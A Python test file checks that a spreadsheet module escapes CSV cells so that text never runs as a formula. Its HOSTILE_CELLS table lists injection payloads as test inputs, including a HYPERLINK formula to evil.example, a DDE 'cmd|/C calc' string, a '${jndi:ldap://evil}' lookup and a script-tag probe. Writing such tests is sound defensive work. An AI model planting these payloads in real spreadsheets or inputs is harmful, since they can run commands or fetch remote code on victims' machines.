"""Text for spreadsheets never contains a formula (docs/security.md, rule 22)."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kisslock.spreadsheet import CONTROL_CHARACTERS, FORMULA_STARTS, csv_line, escape_cell

HOSTILE_CELLS = {
    '=HYPERLINK("https://evil.example","x")': """"'=HYPERLINK(""https://evil.example"",""x"")\"""",
    "+1+cmd|'/C calc'!A0": "\"'+1+cmd|'/C calc'!A0\"",
    "-2+3": "\"'-2+3\"",
    "@SUM(1)": "\"'@SUM(1)\"",
    "\t=1": "\"'\t=1\"",
    "\r=1": "\"'\r=1\"",
    "\n=1": "\"'\n=1\"",
    "\uff1d1": "\"'\uff1d1\"",
    "a;=1": '"a;=1"',
    "<script>alert(1)</script>": '"<script>alert(1)</script>"',
    "${jndi:ldap://evil}": '"${jndi:ldap://evil}"',
    "\x1b[31mred\x1b[0m": '"\\x1b[31mred\\x1b[0m"',
    "a\x00b\x9b": '"a\\x00b\\x9b"',
    "\u202egnp.exe": '"\\u202egnp.exe"',
    'say "no"': '"say ""no"""',
    "": '""',
}  # fmt: skip


@pytest.mark.parametrize(("text", "expected_cell"), HOSTILE_CELLS.items())
def test_a_text_is_quoted_and_is_never_evaluated_as_a_formula(text: str, expected_cell: str) -> None:
    assert escape_cell(text) == expected_cell


def test_a_number_stays_a_number_and_a_missing_value_becomes_an_empty_cell() -> None:
    assert csv_line(["a", 12, -3, None, 0]) == '"a",12,-3,,0\r\n'


RANDOM_TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
RANDOM_CELLS = st.lists(st.one_of(RANDOM_TEXTS, st.integers(0, 2**63), st.none()), min_size=2)


@given(RANDOM_CELLS)
def test_a_csv_reader_reads_each_cell_with_its_control_characters_escaped(
    cells: list[str | int | None],
) -> None:
    (record,) = csv.reader(io.StringIO(csv_line(cells), newline=""), strict=True)
    for read_cell, original in zip(record, cells, strict=True):
        if isinstance(original, str):
            plain_text = CONTROL_CHARACTERS.sub(lambda match: f"\\{escape_character(match[0])}", original)
            assert read_cell == (f"'{plain_text}" if plain_text.startswith(FORMULA_STARTS) else plain_text)
            assert not read_cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", read_cell)
        else:
            assert read_cell == ("" if original is None else str(original))


def escape_character(character: str) -> str:
    return f"x{ord(character):02x}" if ord(character) < 256 else f"u{ord(character):04x}"
